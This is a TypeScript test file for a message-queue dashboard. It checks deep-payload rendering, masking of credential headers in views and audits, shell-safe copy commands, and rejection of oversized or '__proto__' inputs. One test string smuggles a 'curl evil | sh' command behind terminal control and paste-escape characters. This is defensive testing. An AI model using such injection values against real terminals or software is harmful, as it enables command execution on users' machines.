/** Messages of a hostile sender, and secrets in what operators see. */
import { execFileSync } from 'node:child_process'
import { describe, expect, test } from 'vitest'
import type { QueueAction } from '../../../src/dashboard/parts.ts'
import { commandOf } from '../../../src/dashboard/queue/commands.ts'
import { hasValue } from '../../../src/dashboard/queue/payload-path.ts'
import { payloadText, shownHeaders } from '../../../src/dashboard/queue/rows.ts'
import { openSqliteMemory } from '../../outbox/store/open-sqlite.ts'
import { SETTINGS, testQueue } from './setup.ts'

const nested = (depth: number, inner = '') => JSON.parse('['.repeat(depth) + inner + ']'.repeat(depth))

describe('a payload with deep values', () => {
	test('is shown without an indent that would make it a thousand times longer', async () => {
		await using t = await testQueue(await openSqliteMemory())
		const payload = nested(2_000, Array(2_000).fill('1').join())
		const [id = ''] = await t.enqueue({ payload })
		const text = (await t.queue.message({ id }))?.payload ?? ''
		// Compared as a boolean: a report of the difference would take minutes.
		expect([text.length, text === JSON.stringify(payload)]).toEqual([7_999, true])
	})

	test('does not fail the page of the message if it is too deep for JSON.stringify', () => {
		expect(payloadText(nested(200_000), SETTINGS)).toMatch(/^\[not shown: /)
	})

	test('does not fail the search of the others', async () => {
		const deep = nested(200_000)
		expect([hasValue(deep, ['a'], '1'), hasValue({ a: deep }, ['a'], '1')]).toEqual([false, false])
		expect(hasValue([[[{ a: 1 }]]], ['a'], '1')).toBe(true)
	})

	test('is indented as long as that is short, whatever its strings contain', () => {
		const payload = { text: `${'[{,'.repeat(400_000)}"\\` }
		expect(payloadText(payload, SETTINGS) === JSON.stringify(payload, null, 2)).toBe(true)
	})
})

describe('the value of a header is hidden', () => {
	test.each([
		...['Authorization', 'Proxy-Authorization', 'cookie', 'Set-Cookie', 'x-api-key', 'X_API_KEY', 'apikey'],
		...[
			'x-auth',
			'x-access-key',
			'x-private-key',
			'x-session-id',
			'x-credential',
			'x-passwd',
			'webhook-secret',
		],
	])('of %s', (name) => {
		expect(shownHeaders({ [name]: 'opaque' }, SETTINGS)).toEqual({ [name]: '***' })
	})

	test('but not of headers that say what a message is', () => {
		const headers = { 'content-type': 'text/plain', 'webhook-id': 'm1', traceparent: '00-1-2-01', key: 'k' }
		expect(shownHeaders(headers, SETTINGS)).toEqual(headers)
	})

	test('in the audit of an edit too', async () => {
		await using t = await testQueue(await openSqliteMemory())
		const [id = ''] = await t.die(1)
		await t.outbox.dead.edit(id, {
			headers: { cookie: 'session=opaque', 'x-api-key': 'opaque', 'x-kind': 'order' },
		})
		const { records } = await t.queue.audit({})
		expect(JSON.parse(records[0]?.details ?? '')).toMatchObject({
			headers: { cookie: '***', 'x-api-key': '***', 'x-kind': 'order' },
		})
		const message = await t.queue.message({ id })
		expect(JSON.stringify(message)).not.toContain('opaque')
	})
})

describe('a command to copy', () => {
	// A terminal may act on them: Ctrl-C ends the line, and the rest is a command of its own.
	const hostile = `a\u0003\u001b[201~\tcurl 'evil' | sh \u202e\\n\u2028é`

	test('has no character that a terminal acts on', () => {
		const action = { action: 'resume', source: 'orders', destination: hostile, reason: `--yes\u0007` }
		expect(commandOf(action as QueueAction)).not.toMatch(/[\p{Cc}\p{Cf}\u2028\u2029]/u)
	})

	test('is the same text for a shell', () => {
		for (const reason of [hostile, "'", '\\', `\u0001'7`, 'two\nlines']) {
			const action = { action: 'resume', source: 'orders', destination: 'billing', reason }
			const script = `npx() { printf %s "$5"; }; ${commandOf(action as QueueAction)}`
			expect(execFileSync('bash', ['-c', script], { encoding: 'utf8' })).toBe(reason)
		}
	})
})

test('100,000 ids are rejected, and none is looked up', async () => {
	await using t = await testQueue(await openSqliteMemory())
	const [id = ''] = await t.die(1)
	const action = {
		action: 'discard',
		source: 'orders',
		selection: { ids: Array(100_000).fill(id) },
		reason: 'r',
	}
	await expect(t.queue.run(action as QueueAction, { by: 'eve' })).rejects.toThrow(/selection\.ids/)
	await expect(t.queue.plan(JSON.parse('{"action":"__proto__"}'))).rejects.toThrow(/action/)
	await expect(
		t.queue.run(JSON.parse('{"action":"resend","source":"orders","id":"x","__proto__":{"by":"root"}}'), {
			by: 'eve',
		}),
	).rejects.toThrow(/__proto__/)
	expect(await t.outbox.dead.count()).toMatchObject({ count: 1 })
})
